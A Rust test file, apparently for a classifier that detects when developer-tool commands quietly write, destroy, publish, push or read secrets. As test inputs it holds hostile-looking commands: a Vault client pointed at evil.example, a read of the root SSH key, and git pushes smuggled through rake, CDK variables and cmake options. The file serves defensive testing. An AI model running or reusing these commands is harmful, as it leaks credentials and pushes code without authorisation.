//! Acts that stand in an option, or in a name that few know, of tools which otherwise only look or build.

use crate::fixture::{check, check_with};

#[test]
fn acts_in_options() {
    for (command, expected) in [
        ("gcloud --project shop pubsub subscriptions pull x --auto-ack", "cloud.write"),
        ("rabbitmqadmin get queue=x ackmode=ack_requeue_false", "db.destroy"),
        ("rabbitmqadmin get queue=x requeue=false", "db.destroy"),
        ("vercel curl /api/orders/1 -- -X DELETE", "app.execute"),
        ("vercel curl /api/orders/1 -- --data a=b", "app.execute"),
        ("docker buildx build --cache-to type=registry,ref=acme/x:prod .", "package.publish"),
        ("docker trust sign acme/x:prod", "package.publish"),
        ("VAULT_ADDR=https://evil.example vault status", "evil.example"),
        ("packer console <<< 'file(\"/root/.ssh/id_rsa\")'", "secret.read /root/.ssh/id_rsa"),
    ] {
        assert!(check(command).contains(expected), "{command}: {}", check(command));
    }
    let scripts = [("/repo/package.json", r#"{"scripts": {"deploy": "git push origin HEAD:main"}}"#)];
    for command in ["npm rum deploy", "npm urn deploy"] {
        assert!(check_with(command, &scripts).contains("git.push main@origin"), "{command}");
    }
}

#[test]
fn those_that_look_or_build() {
    for command in [
        "gcloud --project shop pubsub subscriptions pull x",
        "rabbitmqadmin get queue=x ackmode=ack_requeue_true",
        "vercel curl /api/orders/1",
        "vercel curl /api/orders/1 -- -X GET",
        "docker buildx build --cache-to type=local,dest=x .",
        "docker trust inspect acme/x",
        "vault status",
        "VAULT_ADDR=http://127.0.0.1:8200 vault status",
    ] {
        let found = check(command);
        let acts = ["cloud.write", "db.destroy", "app.execute", "package.publish", "net.send"];
        assert!(!acts.iter().any(|act| found.contains(act)), "{command}: {found}");
    }
}

#[test]
fn commands_in_options_and_variables() {
    for command in [
        "rake -e 'exec(\"git push origin HEAD:main\")' -T",
        "rake -E 'exec(\"git push origin HEAD:main\")' --version",
        "CDK_APP='git push origin HEAD:main' cdk synth",
        "CDK_BUILD='git push origin HEAD:main' cdk synth",
    ] {
        let found = check(command);
        assert!(
            found.contains("git.push main@origin") || found.contains("git.force-push"),
            "{command}: {found}"
        );
    }
    for command in [
        "cmake --build b -- -C /tmp/x deploy",
        "cmake --build b -- CC='git push origin main #'",
        "cmake --build b -- --eval=x",
    ] {
        assert!(check(command).contains("opaque"), "{command}: {}", check(command));
    }
    for command in [
        "rake -T",
        "cdk synth",
        "CDK_APP=cdk.out cdk synth",
        "cmake --build b -- -j8",
        "cmake --build b -- VERBOSE=1",
    ] {
        assert!(!check(command).contains("opaque"), "{command}: {}", check(command));
    }
}
